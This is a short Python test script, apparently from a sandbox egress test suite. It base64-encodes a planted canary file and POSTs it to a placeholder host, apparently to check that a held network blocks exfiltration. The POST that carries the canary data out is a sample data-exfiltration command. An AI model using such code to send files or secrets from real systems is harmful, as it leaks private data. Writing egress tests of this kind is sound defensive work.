# Sends a planted file in base64, with line breaks.
# network: held
import base64

from prelude import TOLD, canary, get, say

print(
    say(get(f"http://api.test:{TOLD['WEB']}/", method="POST", body=base64.encodebytes(b"xy" + canary(whole=True))))[
        :100
    ]
)
print("tried")
